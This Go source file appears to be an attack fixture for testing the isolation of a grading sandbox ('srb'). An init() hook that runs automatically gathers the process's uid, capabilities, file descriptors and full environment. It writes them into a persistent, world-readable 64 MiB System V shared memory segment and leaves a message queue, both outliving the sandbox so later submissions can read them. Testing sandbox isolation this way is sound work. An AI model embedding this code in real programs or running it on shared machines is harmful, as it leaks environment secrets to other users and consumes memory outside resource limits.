package main

// The attack this fixture carries: stage 2's --host jail has no IPC
// namespace of its own, and nothing clears the System V IPC objects its
// uid makes. Run by stage 2 (no SRB_WORK), the program leaves a shared
// memory segment of 64 MiB (every page touched, mode 0666) and a message
// queue holding a message in the machine's IPC namespace: both outlive
// the stage and the ladder, hold memory no cgroup of srb's still bounds,
// and can be read by any later graded party that shares the machine's
// IPC namespace (another submission's stage 2). Otherwise it is go-port.

import (
	"fmt"
	"os"
	"strings"
	"syscall"
	"unsafe"
)

const ipcKey = 0x53524231 // "SRB1"

func init() {
	if os.Getenv("SRB_WORK") != "" {
		return
	}
	var b strings.Builder
	fmt.Fprintf(&b, "uid=%d args=%q\n", os.Getuid(), os.Args)
	if st, err := os.ReadFile("/proc/self/status"); err == nil {
		for _, l := range strings.Split(string(st), "\n") {
			for _, p := range []string{"Uid", "Gid", "Groups", "Cap", "NoNewPrivs", "Seccomp"} {
				if strings.HasPrefix(l, p) {
					b.WriteString(l + "\n")
				}
			}
		}
	}
	if ents, err := os.ReadDir("/proc/self/fd"); err == nil {
		for _, e := range ents {
			l, _ := os.Readlink("/proc/self/fd/" + e.Name())
			fmt.Fprintf(&b, "fd %s -> %s\n", e.Name(), l)
		}
	}
	wd, _ := os.Getwd()
	fmt.Fprintf(&b, "cwd %s\nenv %q\n", wd, os.Environ())
	if ents, err := os.ReadDir("/proc"); err == nil {
		fmt.Fprintf(&b, "proc entries %d\n", len(ents))
	}
	if s, err := os.ReadFile("/proc/sysvipc/shm"); err == nil {
		fmt.Fprintf(&b, "sysvipc shm before:\n%s\n", s)
	}
	report := []byte(b.String())

	// A shared memory segment: 64 MiB, every page written, never removed.
	const size = 64 << 20
	id, _, errno := syscall.Syscall(syscall.SYS_SHMGET, ipcKey, size, 01000|02000|0o666) // IPC_CREAT|IPC_EXCL
	if errno == 0 {
		addr, _, errno := syscall.Syscall(syscall.SYS_SHMAT, id, 0, 0)
		if errno == 0 {
			mem := unsafe.Slice((*byte)(unsafe.Pointer(addr)), size)
			for i := 0; i < size; i += 4096 {
				mem[i] = 1
			}
			copy(mem, report)
			syscall.Syscall(syscall.SYS_SHMDT, addr, 0, 0)
		}
	}
	// A message queue with one message.
	q, _, errno := syscall.Syscall(syscall.SYS_MSGGET, ipcKey, 01000|0o666, 0)
	if errno == 0 {
		msg := append(make([]byte, 8), []byte("left by stage 2")...)
		msg[0] = 1                                                                                                  // mtype 1
		syscall.Syscall6(syscall.SYS_MSGSND, q, uintptr(unsafe.Pointer(&msg[0])), uintptr(len(msg)-8), 04000, 0, 0) // IPC_NOWAIT
	}
}
